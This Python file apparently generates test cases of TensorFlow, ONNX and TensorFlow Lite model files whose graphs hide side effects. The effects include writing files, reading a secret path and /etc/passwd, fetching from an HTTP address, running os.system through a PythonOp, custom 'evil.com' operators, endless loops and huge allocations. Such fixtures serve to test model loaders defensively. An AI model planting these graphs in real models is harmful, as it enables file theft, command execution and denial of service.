"""Write graphs of TensorFlow, ONNX and TensorFlow Lite that ask their engines for more than to compute."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
from converters.asking_files import Place, Write, case
from converters.tensorflow_writer import Graph, Strings, Type, save_model
from converters.tflite_writer import (
    CODES,
    Operator,
    Subgraph,
    Tensor,
    constant,
    write_subgraphs,
    write_tflite,
)

_FLOAT = Type("float32")

# ---- TensorFlow ----------------------------------------------------------------------------------------------------


def texts(graph: Graph, *values: str) -> str:
    """Add a constant text."""
    name = graph.node("Const", dtype=Type("string"), value=Strings(values))
    graph.message.node[-1].attr[-1].value.tensor.tensor_shape.ClearField("dim")
    return name


def write_there(graph: Graph, place: Place) -> str:
    return graph.node("WriteFile", texts(graph, str(place.target)), texts(graph, "written"), name="effect")


def loop_there(graph: Graph, _: Place) -> str:
    """Add a loop whose condition is always true."""
    frame = {"T": _FLOAT, "frame_name": "effect"}
    entered = graph.node("Enter", graph.constant(1.0), **frame)
    merged = graph.node("Merge", entered, "again", T=_FLOAT)
    true = graph.node("LoopCond", graph.node("Enter", graph.constant(np.array(True)), **frame))
    switched = graph.node("Switch", merged, true, T=_FLOAT)
    graph.node("NextIteration", f"{switched}:1", name="again", T=_FLOAT)
    return graph.node("Exit", switched, name="effect", T=_FLOAT)


#: Operators of TensorFlow with effects: the deed, how, and a function that adds the operator and returns its name.
EFFECTS: list[tuple[str, str, Callable[[Graph, Place], str]]] = [
    ("write", "a file", write_there),
    (
        "write",
        "by printing",
        lambda g, p: g.node(
            "PrintV2", texts(g, "written"), name="effect", output_stream=f"file://{p.target}"
        ),
    ),
    (
        "write",
        "a checkpoint",
        lambda g, p: g.node(
            "SaveV2", texts(g, str(p.target)), texts(g, "x"), texts(g, ""), g.constant(1.0), name="effect"
        ),
    ),
    ("read", "a file", lambda g, p: g.node("ReadFile", texts(g, str(p.secret)), name="effect")),
    ("read", "a folder", lambda g, p: g.node("MatchingFiles", texts(g, f"{p.folder}/*"), name="effect")),
    (
        "read",
        "a checkpoint",
        lambda g, p: g.node(
            "RestoreV2", texts(g, str(p.secret)), texts(g, "x"), texts(g, ""), name="effect", dtypes=[1]
        ),
    ),
    (
        "read",
        "a table",
        lambda g, p: g.node(
            "InitializeTableFromTextFileV2",
            g.node("HashTableV2", key_dtype=Type("string"), value_dtype=Type("int64")),
            texts(g, str(p.secret)),
            name="effect",
        ),
    ),
    (
        "connect",
        "for a file",
        lambda g, p: g.node("ReadFile", texts(g, f"http://{p.address}/x"), name="effect"),
    ),
    (
        "connect",
        "for a call",
        lambda g, p: g.node("RpcClient", texts(g, p.address), name="effect", name_="rpc"),
    ),
    (
        "connect",
        "for data",
        lambda g, p: g.node("DataServiceDatasetV3", texts(g, p.address), name="effect"),
    ),
    ("start", "Python", lambda g, p: g.node("PyFunc", g.constant(1.0), name="effect", token="pyfunc_0")),
    (
        "start",
        "the end of its process",
        lambda g, p: g.node("Abort", name="effect", error_msg="ended", exit_without_error=True),
    ),
    (
        "wait",
        "for a queue",
        lambda g, p: g.node(
            "QueueDequeueV2", g.node("FIFOQueueV2", component_types=[1]), name="effect", component_types=[1]
        ),
    ),
    (
        "wait",
        "for a barrier",
        lambda g, p: g.node("BarrierTakeMany", g.node("Barrier"), g.constant(np.array(1)), name="effect"),
    ),
    (
        "allocate",
        "a filled tensor",
        lambda g, p: g.node("Fill", g.constant(np.array([1 << 30, 4])), g.constant(1.0), name="effect"),
    ),
    ("loop", "without end", loop_there),
]


def frozen(place: Place, graph: Graph) -> Path:
    return graph.save(place.folder / "model.pb")


def as_control(effect: Callable[[Graph, Place], str]) -> Write:
    """Return a case whose graph computes after the effect."""

    def write(place: Place) -> Path:
        graph = Graph()
        x = graph.placeholder(-1, 4, 4, 3)
        made = effect(graph, place)
        graph.node("Relu", x, f"^{made}", name="y", T=_FLOAT)
        return frozen(place, graph)

    return write


def as_operand(effect: Callable[[Graph, Place], str]) -> Write:
    """Return a case whose graph computes with the result of the effect."""

    def write(place: Place) -> Path:
        graph = Graph()
        x = graph.placeholder(-1, 4, 4, 3)
        made = effect(graph, place)
        graph.node("AddV2", x, made, name="y", T=_FLOAT)
        return frozen(place, graph)

    return write


for _deed, _how, _effect in EFFECTS:
    case("TensorFlow", _deed, f"{_how}, before")(as_control(_effect))
    if _how in ("a file", "Python", "for a queue", "a filled tensor", "without end"):
        case("TensorFlow", _deed, f"{_how}, as an operand")(as_operand(_effect))


@case("TensorFlow", "write", "where nothing reads it")
def _(place: Place) -> Path:
    graph = Graph()
    graph.node("Relu", graph.placeholder(-1, 4, 4, 3), name="y", T=_FLOAT)
    write_there(graph, place)
    return frozen(place, graph)


@case("TensorFlow", "write", "before an identity")
def _(place: Place) -> Path:
    graph = Graph()
    relu = graph.node("Relu", graph.placeholder(-1, 4, 4, 3), T=_FLOAT)
    graph.node("Identity", relu, f"^{write_there(graph, place)}", name="y", T=_FLOAT)
    return frozen(place, graph)


@case("TensorFlow", "write", "in an initialiser")
def _(place: Place) -> Path:
    from converters.protobuf_messages import tensorflow_message

    graph = Graph()
    x = graph.placeholder(-1, 4, 4, 3)
    graph.node("Relu", x, name="y", T=_FLOAT)
    write_there(graph, place)
    folder = save_model(place.folder / "model", graph, {"image": x}, {"result": "y"}, {})
    file = folder / "saved_model.pb"
    model = tensorflow_message("SavedModel")()
    model.ParseFromString(file.read_bytes())
    made = model.meta_graphs[0].signature_def.add(key="__saved_model_init_op").value
    made.outputs.add(key="__saved_model_init_op").value.name = "effect"
    file.write_bytes(model.SerializeToString())
    return folder


# ---- ONNX ----------------------------------------------------------------------------------------------------------


def onnx_file(place: Place, nodes: Any, constants: Any = None, change: Any = None) -> Path:
    from converters import onnx_files

    made = onnx_files.model(nodes, {"x": ["n", 3, 4, 4]}, constants)
    if change is not None:
        change(made)
    path = place.folder / "model.onnx"
    path.write_bytes(made.SerializeToString())
    return path


def relu() -> Any:
    from converters.onnx_files import node

    return node("Relu", ["x"])


def external(location: Callable[[Place], str]) -> Write:
    """Return a case whose weight lies in another file."""

    def write(place: Place) -> Path:
        from converters.onnx_files import node, onnx

        def change(model: Any) -> None:
            (tensor,) = model.graph.initializer
            tensor.ClearField("raw_data")
            tensor.data_location = onnx.TensorProto.EXTERNAL
            tensor.external_data.add(key="location", value=location(place))

        return onnx_file(place, [node("Add", ["x", "w"])], {"w": np.ones((3, 1, 1), np.float32)}, change)

    return write


def linked(make: Callable[[Place, Path], None]) -> Callable[[Place], str]:
    def location(place: Place) -> str:
        make(place, place.folder / "weights.bin")
        return "weights.bin"

    return location


case("ONNX", "read", "by an absolute path")(external(lambda place: str(place.secret)))
case("ONNX", "read", "by ..")(external(lambda place: place.above))
case("ONNX", "read", "by a link")(external(linked(lambda place, path: path.symlink_to(place.secret))))
case("ONNX", "wait", "for a pipe")(external(linked(lambda place, path: os.mkfifo(path))))
case("ONNX", "allocate", "by a device")(external(linked(lambda place, path: path.symlink_to("/dev/zero"))))
case("ONNX", "read", "a folder")(external(linked(lambda place, path: path.mkdir())))


@case("ONNX", "write", "by another library")
def _(place: Place) -> Path:
    from converters.onnx_files import onnx

    return onnx_file(
        place, [onnx.helper.make_node("Run", ["x"], ["y"], domain="evil.com", path=str(place.target))]
    )


@case("ONNX", "write", "by another library where nothing reads it")
def _(place: Place) -> Path:
    from converters.onnx_files import onnx

    other = onnx.helper.make_node("Run", ["x"], ["z"], domain="evil.com", path=str(place.target))
    return onnx_file(place, [other, relu()])


@case("ONNX", "read", "a compiled context")
def _(place: Place) -> Path:
    from converters.onnx_files import onnx

    kind = {"domain": "com.microsoft", "ep_cache_context": str(place.secret), "embed_mode": 0}
    return onnx_file(place, [onnx.helper.make_node("EPContext", ["x"], ["y"], **kind)])


@case("ONNX", "allocate", "a filled tensor")
def _(place: Place) -> Path:
    from converters.onnx_files import filled, node

    made, constants = filled("c", [1 << 32])
    cut = node("Slice", ["c", "b0", "b1"], "s")
    return onnx_file(
        place,
        [made, cut, node("Add", ["x", "s"])],
        {**constants, "b0": np.array([0]), "b1": np.array([1])},
    )


@case("ONNX", "allocate", "where nothing reads it")
def _(place: Place) -> Path:
    from converters.onnx_files import filled

    made, constants = filled("c", [1 << 40])
    return onnx_file(place, [made, relu()], constants)


def loop(result: str) -> Any:
    """Return a loop without end."""
    from converters.onnx_files import node, onnx

    body = onnx.parser.parse_graph(
        "body (int64 i, bool on, float[n] v) => (bool on2, float[n] v2) { on2 = Identity(on) v2 = Sin(v) }"
    )
    return node("Loop", ["", "yes", "x"], result, body=body)


@case("ONNX", "loop", "without end")
def _(place: Place) -> Path:
    return onnx_file(place, [loop("y")], {"yes": np.array(True)})


@case("ONNX", "loop", "where nothing reads it")
def _(place: Place) -> Path:
    return onnx_file(place, [loop("z"), relu()], {"yes": np.array(True)})


@case("ONNX", "loop", "in the training")
def _(place: Place) -> Path:
    def change(model: Any) -> None:
        training = model.training_info.add()
        training.initialization.node.append(loop("z"))
        model.metadata_props.add(key="command", value=place.command)

    return onnx_file(place, [relu()], None, change)


@case("ONNX", "start", "in a function")
def _(place: Place) -> Path:
    from converters.onnx_files import onnx

    inner = onnx.helper.make_node("Run", ["a"], ["b"], domain="evil.com")
    opsets = [onnx.helper.make_opsetid("", 17), onnx.helper.make_opsetid("evil.com", 1)]

    def change(model: Any) -> None:
        model.functions.append(onnx.helper.make_function("own", "F", ["a"], ["b"], [inner], opsets))

    return onnx_file(place, [onnx.helper.make_node("F", ["x"], ["y"], domain="own")], None, change)


def other_operator(domain: str, kind: str, **attributes: Any) -> Any:
    """Return an operator of a library whose result is the network's."""
    from converters.onnx_files import onnx

    return onnx.helper.make_node(kind, ["x"], ["y"], domain=domain, **attributes)


case("ONNX", "connect", "for a weight")(external(lambda place: f"http://{place.address}/weights.bin"))
case("ONNX", "connect", "for a call")(
    lambda place: onnx_file(
        place,
        [
            other_operator(
                "com.microsoft.extensions", "AzureTritonInvoker", model_uri=f"http://{place.address}/v2"
            )
        ],
    )
)
case("ONNX", "start", "Python")(
    lambda place: onnx_file(
        place,
        [other_operator("com.microsoft", "PythonOp", func_name="os.system", input_convention=place.command)],
    )
)
case("ONNX", "wait", "for its trainer")(
    lambda place: onnx_file(place, [other_operator("com.microsoft", "YieldOp", full_shape_outputs=[0])])
)


@case("ONNX", "write", "by settings of the session")
def _(place: Place) -> Path:
    """Write a file that asks onnxruntime to record a profile."""

    def change(model: Any) -> None:
        wanted = {"session_options": {"enable_profiling": 1, "profile_file_prefix": str(place.target)}}
        model.metadata_props.add(key="ort_config", value=json.dumps(wanted))

    return onnx_file(place, [relu()], None, change)


# ---- TensorFlow Lite -----------------------------------------------------------------------------------------------

_SHAPE = (1, 4, 4, 3)


def tflite_file(place: Place, content: bytes) -> Path:
    path = place.folder / "model.tflite"
    path.write_bytes(content)
    return path


def with_operator(operator: Operator, *more: Tensor) -> Write:
    """Return a case with an operator whose result, tensor 2, nothing reads."""

    def write(place: Place) -> Path:
        tensors = [Tensor("x", _SHAPE), Tensor("y", _SHAPE), Tensor("z", _SHAPE), *more]
        relu = Operator(CODES["RELU"], [0], [1])
        return tflite_file(place, write_tflite(tensors, [operator, relu], [0], [1]))

    return write


_SECRET_OPTIONS = b"/etc/passwd"
case("TensorFlow Lite", "write", "by another library")(
    with_operator(Operator(32, [0], [2], custom=("FlexWriteFile", _SECRET_OPTIONS)))
)
case("TensorFlow Lite", "read", "a table")(with_operator(Operator(CODES["HASHTABLE"], [], [2])))
case("TensorFlow Lite", "write", "a variable")(with_operator(Operator(CODES["VAR_HANDLE"], [], [2])))
case("TensorFlow Lite", "loop", "by a call of a graph")(with_operator(Operator(CODES["CALL_ONCE"], [], [])))
case("TensorFlow Lite", "allocate", "random numbers")(
    with_operator(Operator(CODES["RANDOM_UNIFORM"], [3], [2]), constant("n", [1 << 30], "int32"))
)


@case("TensorFlow Lite", "write", "by another library, as its result")
def _(place: Place) -> Path:
    custom = Operator(32, [0], [1], custom=("FlexWriteFile", _SECRET_OPTIONS))
    return tflite_file(place, write_tflite([Tensor("x", _SHAPE), Tensor("y", _SHAPE)], [custom], [0], [1]))


@case("TensorFlow Lite", "loop", "without end")
def _(place: Place) -> Path:
    tensors = [Tensor("x", _SHAPE), Tensor("y", _SHAPE)]
    main = Subgraph(tensors, [Operator(CODES["WHILE"], [0], [1])], [0], [1])
    again = Subgraph(tensors, [Operator(CODES["RELU"], [0], [1])], [0], [1])
    return tflite_file(place, write_subgraphs([main, again]))


@case("TensorFlow Lite", "write", "in another graph")
def _(place: Place) -> Path:
    tensors = [Tensor("x", _SHAPE), Tensor("y", _SHAPE)]
    main = Subgraph(tensors, [Operator(CODES["RELU"], [0], [1])], [0], [1])
    other = Subgraph(tensors, [Operator(32, [0], [1], custom=("FlexWriteFile", b""))], [0], [1])
    return tflite_file(place, write_subgraphs([main, other]))


def delegated(kind: str) -> Write:
    """Return a case with an operator of TensorFlow in a file of TensorFlow Lite, for its delegate."""

    def write(place: Place) -> Path:
        named = f"{kind}\0{place.target}\0{place.secret}\0{place.address}".encode()
        return with_operator(Operator(32, [0], [2], custom=(f"Flex{kind}", named)))(place)

    return write


for _deed, _kind in (
    ("write", "WriteFile"),
    ("read", "ReadFile"),
    ("connect", "RpcClient"),
    ("start", "EagerPyFunc"),
    ("wait", "QueueDequeueV2"),
    ("allocate", "Fill"),
    ("loop", "While"),
):
    case("TensorFlow Lite", _deed, "by TensorFlow")(delegated(_kind))
